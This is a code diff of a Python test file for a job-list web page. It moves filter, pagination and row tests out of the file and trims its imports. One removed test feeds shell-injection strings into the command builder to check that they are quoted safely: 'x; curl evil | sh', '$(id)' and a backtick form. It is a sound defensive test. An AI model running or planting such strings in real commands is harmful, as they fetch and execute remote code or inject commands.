@@ -1,15 +1,12 @@
-"""The list of jobs: filters, rows of live jobs and of the history in one order, pages."""
+"""The page of the list of jobs: what it reads of the history, and where a page ends."""
 
 from __future__ import annotations
 
-import shlex
 from collections.abc import Collection
 from dataclasses import replace
-from datetime import UTC, datetime, timedelta
+from datetime import timedelta
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
-
-import pytest
 
 from fournos.api.kinds import FOURNOS_JOB
 from fournos.engine.api.times import parse_time
@@ -17,168 +14,15 @@ from fournos.engine.kube.errors import ForbiddenError
 from fournos.engine.kube.resource import Key, Resource
 from fournos.engine.queueing.kinds import LOCAL_QUEUE
 from fournos.history.api.wire import body
-from fournos.history.job_row import recorded_row
 from fournos.history.records import Page as RunPage
 from fournos.history.records import Run
 from fournos.history.results.values import MeasuredValue, RunValues, ValuePage
-from fournos.web.errors import PageError
 from fournos.web.pages import jobs
 from fournos.web.recorded_namespaces import RUNS
-from fournos.web.runs import filters, rows
 from fournos.web.runs.history_rows import SEARCHES
-from fournos.web.runs.rows import RowPlace, merged, newest, place_of
-from tests.history import a_run, ended
 from tests.unit.client.world import NS, SPEC, Api
+from tests.unit.web.listed import BEGAN, run
 from tests.unit.web.page import AllRights, Visit, visit
-
-BEGAN = datetime(2030, 1, 1, tzinfo=UTC)
-
-
-def job(name: str, second: int = 0, phase: str = "Running", **spec: Any) -> dict[str, Any]:
-    at = BEGAN + timedelta(seconds=second)
-    return {
-        "metadata": {
-            "name": name,
-            "namespace": NS,
-            "uid": f"uid-{name}",
-            "creationTimestamp": at.strftime("%Y-%m-%dT%H:%M:%SZ"),
-            "labels": {"team": "perf"},
-        },
-        "spec": {**SPEC, "owner": "ann", **spec},
-        "status": {"phase": phase},
-    }
-
-
-def run(name: str, second: int, **fields: Any) -> Run:
-    found = ended(replace(a_run(1, name=name), submitted_at=BEGAN + timedelta(seconds=second)), **fields)
-    return replace(found, identity=replace(found.identity, namespace=NS, uid=f"uid-{name}"))
-
-
-@pytest.mark.parametrize(
-    ("query", "matches"),
-    [
-        ({}, True),
-        ({"phase": "Running"}, True),
-        ({"phase": "active"}, True),
-        ({"phase": "Failed"}, False),
-        ({"owner": "ann"}, True),
-        ({"owner": "an"}, False),
-        ({"cluster": "cluster-1"}, True),
-        ({"cluster": "cluster-2"}, False),
-        ({"label": "team=perf"}, True),
-        ({"label": "team=perf, model=x"}, False),
-        ({"text": "LLA"}, True),
-        ({"text": "70B"}, True),
-        ({"text": "x"}, False),
-        ({"since": "2030-01-01"}, True),
-        ({"since": "2030-01-02"}, False),
-        ({"until": "2030-01-01"}, True),
-        ({"until": "2029-12-31"}, False),
-        ({"until": "2030-01-01T00:00:00Z"}, False),
-    ],
-)
-def test_filters_of_live_jobs(query: dict[str, str], matches: bool) -> None:
-    found = filters.read(query)
-    one = job("llama-1", displayName="Llama 70B")
-    assert found.match(one, filters.names(one)) is matches
-    assert found.fields == query
-
-
-@pytest.mark.parametrize(
-    "query",
-    [
-        {"label": "team"},
-        {"label": "a!=b"},
-        {"since": "yesterday"},
-        {"since": "0001-01-01T00:00+14:00"},
-        {"until": "2030-02-30"},
-        {"phase": "Odd"},
-    ],
-)
-def test_a_filter_that_cannot_be_read_filters_nothing_and_the_others_do(query: dict[str, str]) -> None:
-    found = filters.read({"owner": "ann", **query})
-    assert list(found.wrong) == list(query)
-    assert found.fields == {"owner": "ann", **query} and found.command == ""
-    one, other = job("llama-1"), job("llama-2", owner="bob")
-    assert found.match(one, filters.names(one)) and not found.match(other, filters.names(other))
-
-
-def test_the_last_day_there_is_has_an_end() -> None:
-    assert filters.read({"until": "9999-12-31"}).wrong == {}
-
-
-async def test_a_wrong_filter_is_marked_and_the_page_stays() -> None:
-    api = Api()
-    await submitted(api, "one")
-    async with visit(api) as here:
-        html = await here.show(jobs.PAGE, {"since": "<foo>", "owner": "ann", "label": "a"})
-        other = await here.show(jobs.PAGE, {"since": "<foo>", "owner": "bob"})
-    field = html.split('name="since"')[1].split("</label>")[0]
-    assert 'value="&lt;foo&gt;"' in field and 'aria-invalid="true" aria-describedby="wrong-since"' in field
-    assert 'id="wrong-since"' in field and "is not a date. Write it like 2026-03-31" in field
-    assert "not filtered by Labels and From" in html and ">one</a>" in html
-    assert "aria-invalid" not in html.split('name="until"')[1]
-    assert 'name="owner" value="bob"' in other and ">one</a>" not in other
-
-
-def test_the_command_lists_the_same() -> None:
-    found = filters.read({"phase": "Failed", "owner": "ann", "label": "a=b"})
-    assert found.command == "fournos list --all-time --phase Failed --owner ann -l a=b"
-    assert filters.read({"text": "x"}).command == ""
-
-
-@pytest.mark.parametrize("value", ["x; curl evil | sh", "$(id)", "`id`", "a'b", "x\nid", "--help", "a b"])
-def test_what_an_address_holds_is_one_word_of_the_command(value: str) -> None:
-    label = "a=" + "".join(character for character in value if character not in " \n()")  # no label has those
-    found = filters.read({"owner": value, "cluster": value, "label": label})
-    options = ["--owner", value, "--cluster", value, "-l", label]
-    assert shlex.split(found.command) == ["fournos", "list", "--all-time", *options]
-    lexer = shlex.shlex(found.command, posix=True, punctuation_chars=True)
-    assert not {";", "|", "&", "(", ")"} & set(lexer), "nothing that a shell would obey"
-
-
-def test_an_address_of_a_page_that_is_none() -> None:
-    with pytest.raises(PageError):
-        place_of("yesterday~1")
-    assert place_of("") is None
-    assert place_of("2030-01-01T00:00:00Z~uid-1") == RowPlace("2030-01-01T00:00:00Z", "uid-1")
-
-
-def test_pages_show_each_job_once_in_one_order() -> None:
-    """Of jobs of the same second, too, which the history orders by other values."""
-    live = [job(f"live-{number}", number // 4) for number in range(23)]
-    gone = [run(f"gone-{number}", number // 3) for number in range(31)]
-    after, shown = None, []
-    while True:
-        page, after = merged(
-            newest(live, filters.Filters(), after, 6), rows.follows(gone, after, set())[:6], 5
-        )
-        shown += [row.name for row in page]
-        if after is None:
-            break
-        assert len(page) == 5
-    assert sorted(shown) == sorted([f"live-{n}" for n in range(23)] + [f"gone-{n}" for n in range(31)])
-
-
-def test_enough_of_the_history_is_a_complete_second() -> None:
-    runs = [run(f"r{number}", 9 - number // 4) for number in range(12)]
-    assert rows.is_enough(runs, runs, 8)
-    assert not rows.is_enough(runs[:9], runs[:9], 9), "the third second may have more"
-    assert not rows.is_enough(runs, runs[:3], 4)
-
-
-@pytest.mark.parametrize(("at", "begins"), [(0, 0), (1, 1), (999_999, 1)])
-def test_the_second_from_which_rows_are_complete(at: int, begins: int) -> None:
-    assert rows.second(BEGAN + timedelta(microseconds=at)) == f"2030-01-01T00:00:0{begins}Z"
-
-
-def test_a_row_of_a_job_that_is_gone_leads_to_it_by_its_uid() -> None:
-    row = recorded_row(rows.ListRow, run("one", 0, started_at=BEGAN, ended_at=BEGAN + timedelta(seconds=200)))
-    assert (row.path, row.ran, row.live) == (f"/jobs/{NS}/one?uid=uid-one", "3m20s", False)
-    assert rows.ListRow.of(job("a/b")).path == f"/jobs/{NS}/a%2Fb"
-
-
-# --- the page ---------------------------------------------------------------------
 
 
 class History(Api):
@@ -218,6 +62,20 @@ async def submitted(api: Api, *names: str) -> None:
         await api.create(
             FOURNOS_JOB, {"metadata": {"name": name, "namespace": NS}, "spec": {**SPEC, "owner": "ann"}}
         )
+
+
+async def test_a_wrong_filter_is_marked_and_the_page_stays() -> None:
+    api = Api()
+    await submitted(api, "one")
+    async with visit(api) as here:
+        html = await here.show(jobs.PAGE, {"since": "<foo>", "owner": "ann", "label": "a"})
+        other = await here.show(jobs.PAGE, {"since": "<foo>", "owner": "bob"})
+    field = html.split('name="since"')[1].split("</label>")[0]
+    assert 'value="&lt;foo&gt;"' in field and 'aria-invalid="true" aria-describedby="wrong-since"' in field
+    assert 'id="wrong-since"' in field and "is not a date. Write it like 2026-03-31" in field
+    assert "not filtered by Labels and From" in html and ">one</a>" in html
+    assert "aria-invalid" not in html.split('name="until"')[1]
+    assert 'name="owner" value="bob"' in other and ">one</a>" not in other
 
 
 async def test_live_jobs_and_those_of_the_history() -> None:
@@ -392,13 +250,3 @@ async def test_the_runs_of_several_namespaces_are_one_list() -> None:
     async with visit(api, Own()) as here:
         names, _ = await read_to_the_end(here, {})
     assert names == [f"{'ab'[one % 2]}{one}" for one in reversed(range(80))]
-
-
-def test_shortcuts_are_filters_and_one_is_marked() -> None:
-    now = datetime(2030, 1, 9, 12, tzinfo=UTC)
-    mine = {each.title: each for each in filters.shortcuts("ann", now)}
-    assert mine["My failed"].filters.address() == "/jobs?phase=Failed&owner=ann"
-    assert mine["This week"].filters.address() == "/jobs?since=2030-01-02"
-    chosen = filters.read({"phase": "Failed"})
-    assert [title for title, each in mine.items() if each.chosen(chosen)] == ["Failed"]
-    assert [each.title for each in filters.shortcuts("", now)] == ["All", "Active", "Failed", "This week"]
